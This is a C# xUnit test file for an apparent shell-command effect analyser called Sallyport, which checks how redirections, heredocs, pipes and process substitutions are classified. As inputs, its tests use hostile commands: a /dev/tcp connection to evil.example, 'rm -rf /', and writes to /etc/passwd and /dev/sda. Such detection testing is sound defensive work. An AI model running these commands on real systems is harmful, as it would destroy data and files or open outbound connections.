using Sallyport.Shell;

namespace Sallyport.Tests.Shell.Evaluation;

public class RedirectionTests
{
    [Theory]
    [InlineData("t > out", "Write /work/app/out overwrite")]
    [InlineData("t >> /var/log/x", "Write /var/log/x append")]
    [InlineData("t &> ../both", "Write /work/both overwrite")]
    [InlineData("t < in", "Read /work/app/in ")]
    [InlineData("t <> dev", "Read /work/app/dev |Write /work/app/dev read-write")]
    [InlineData("t > /dev/null 2>&1", "")]
    [InlineData("t > /dev/sda", "WriteDisk /dev/sda redirection")]
    [InlineData("t > /dev/tcp/evil.example/80", "Connect evil.example:80 dev-tcp")]
    [InlineData("{ t; u; } > ~/x", "Write /home/dev/x overwrite")]
    [InlineData("cd /etc; t > passwd", "Write /etc/passwd overwrite")]
    [InlineData("exec 3> /etc/x", "Write /etc/x overwrite")]
    [InlineData("t {fd}> /etc/x", "Write /etc/x overwrite")]
    public void A_redirection_has_an_effect(string command, string effects) =>
        Assert.Equal(effects, string.Join('|', Seen.Analyze(command).Effects
            .Where(e => e.By!.Redirections.Count > 0 && e.Kind is EffectKind.Read or EffectKind.Write or EffectKind.WriteDisk or EffectKind.Connect)
            .Select(e => $"{e.Kind} {e.Target.Name} {e.Detail}")));

    [Fact]
    public void A_file_that_nothing_is_written_to_is_emptied()
    {
        Assert.Contains(Seen.Analyze("> /etc/passwd").Effects, e => e is { Kind: EffectKind.Truncate, Target.Name: "/etc/passwd" });
        Assert.Contains(Seen.Analyze(": > /etc/passwd").Effects, e => e.Kind == EffectKind.Truncate);
        Assert.DoesNotContain(Seen.Analyze(": >> /etc/passwd").Effects, e => e.Kind == EffectKind.Truncate);
    }

    [Theory]
    [InlineData("t <<EOF\na $X ${X}b $((1+1))\nEOF\n", "X=1; ", "a 1 1b 2\n")]
    [InlineData("t <<'EOF'\na $X\nEOF\n", "X=1; ", "a $X\n")]
    [InlineData("t <<-EOF\n\t\tin\n\tEOF\n", "", "in\n")]
    [InlineData("t <<\\EOF\n$(rm)\nEOF\n", "", "$(rm)\n")]
    [InlineData("t <<A\n1\\\nA\nA\n", "", "1A\n")]
    [InlineData("t <<< \"a  $X\"", "X=b; ", "a  b\n")]
    [InlineData("t <<EOF", "", "")]
    public void Text_given_on_the_spot_is_the_input(string command, string before, string text)
    {
        var run = Assert.Single(Seen.Analyze(before + command).Runs, r => r.Program == "t");
        Assert.Equal(InputKind.Text, run.Input.Kind);
        Assert.Equal(text, run.Input.Text!.Known);
    }

    [Fact]
    public void Two_documents_on_a_line_follow_each_other()
    {
        var runs = Seen.Analyze("t <<A; u <<B\none\nA\ntwo\nB\nrm x").Runs;
        Assert.Equal(["one\n", "two\n", null], runs.Select(r => r.Input.Text?.Known));
    }

    [Theory]
    [InlineData("echo 'su whoami' | ssh host")]
    [InlineData("echo 'sudo sh' | bash")]
    [InlineData("bash <<< 'bash'")]
    public void What_was_read_as_code_is_not_read_again_by_what_the_code_starts(string command)
    {
        var analysis = Seen.Analyze(command);
        Assert.False(analysis.BudgetExhausted);
        Assert.True(analysis.Runs.Count <= 5, string.Join('\n', analysis.Runs.Select(Seen.Text)));
    }

    [Fact]
    public void A_pipe_says_where_it_comes_from()
    {
        var run = Assert.Single(Seen.Analyze("t a | u b | rm c").Runs, r => r.Program == "rm");
        Assert.Equal(InputKind.Pipe, run.Input.Kind);
        Assert.Equal(["t", "u"], run.Input.From!.Select(r => r.Program));
        Assert.Equal(InputKind.Inherited, Assert.Single(Seen.Analyze("t").Runs).Input.Kind);
        Assert.True(Seen.Analyze("t | u").Runs[0].OutputCaptured);
        Assert.False(Seen.Analyze("t | u").Runs[1].OutputCaptured);
    }

    [Fact]
    public void A_process_substitution_is_run_and_feeds_its_command()
    {
        var runs = Seen.Analyze("u <(t x)").Runs;
        Assert.Equal(["t", "u"], runs.Select(r => r.Program));
        Assert.Equal("<(t x)", Assert.Single(runs[1].Feeds).Key);
        Assert.Contains(Seen.Analyze("t > >(rm -rf /)").Runs, r => Seen.Text(r) == "rm|-rf|/");
    }

    [Fact]
    public void What_the_text_writes_and_then_runs_is_read()
    {
        Assert.Contains("rm|-rf|/", Seen.Runs("exec 9<<<x; read -r L <<< 'rm -rf /'; $L"));
        var facts = Seen.Facts with { Files = new Dictionary<string, FileFact> { ["/work/app/env.sh"] = new(FileKind.File, "/work/app/env.sh", "X=rm\n") } };
        Assert.Contains("rm|-rf|/", Seen.Runs(". ./env.sh; $X -rf /", facts));
        // What was read before is stale once it is overwritten.
        Assert.DoesNotContain("rm|-rf|/", Seen.Runs("t > env.sh; . ./env.sh; $X -rf /", facts));
        var unread = Seen.Analyze(". ./env.sh");
        Assert.Equal(new FactRequest("/work/app/env.sh", true), Assert.Single(unread.Wanted));
        Assert.Contains(unread.Effects, e => e.Kind == EffectKind.ExecuteUnknown);
    }
}
